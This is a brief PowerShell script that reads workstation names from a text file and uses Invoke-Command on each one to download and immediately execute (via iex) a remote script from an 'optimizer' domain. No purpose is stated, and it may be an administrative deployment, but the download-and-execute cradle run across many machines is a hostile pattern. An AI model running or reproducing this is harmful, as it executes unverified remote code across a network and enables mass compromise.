$maquinas = Get-Content .\estacoes.txt
foreach ($m in $maquinas) {
    Invoke-Command -ComputerName $m -ScriptBlock {
        [Net.ServicePointManager]::SecurityProtocol = 'Tls12'
        iex ((New-Object Net.WebClient).DownloadString('https://otimiza-windows.example/turbo.ps1'))
    }
}
